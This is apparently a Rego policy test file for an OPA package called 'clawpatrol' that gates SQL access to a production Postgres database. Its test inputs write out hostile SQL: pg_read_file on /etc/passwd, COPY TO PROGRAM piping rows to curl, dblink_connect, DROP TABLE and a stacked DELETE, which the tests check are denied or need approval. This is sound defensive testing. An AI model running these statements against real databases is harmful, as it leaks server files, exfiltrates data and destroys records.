package clawpatrol

pg_query(text, verbs, functions) := {
	"protocol": "sql",
	"endpoint": "prod-db",
	"sql": {
		"dialect": "postgres", "database": "app", "user": "app", "statement": text,
		"statements": [{"verb": v, "text": text} | some v in verbs],
		"verbs": verbs, "functions": functions, "unparseable": false, "truncated": false,
	},
}

test_pg_select_allowed if {
	"pg-read" in allow with input as pg_query("SELECT * FROM users", ["select"], [])
}

test_pg_read_file_denied if {
	some e in deny with input as pg_query("SELECT pg_read_file('/etc/passwd')", ["select"], ["pg_read_file"])
	e.rule == "pg-server-files"
	e.reason == "pg_read_file reaches the database server's filesystem"
}

test_pg_dblink_denied if {
	some e in deny with input as pg_query("SELECT * FROM dblink_connect('host=x')", ["select"], ["dblink_connect"])
	e.rule == "pg-dblink"
}

test_pg_copy_program_denied if {
	some e in deny with input as pg_query("COPY users TO PROGRAM 'curl -d @- x'", ["copy"], [])
	e.rule == "pg-copy-program"
}

test_pg_ddl_needs_approval if {
	some e in approve with input as pg_query("DROP TABLE users", ["drop"], [])
	e.rule == "pg-ddl"
	e.reason == "DROP changes the schema"
}

test_pg_read_then_write_is_no_read if {
	count(allow) == 0 with input as pg_query("SELECT 1; DELETE FROM users", ["select", "delete"], [])
}
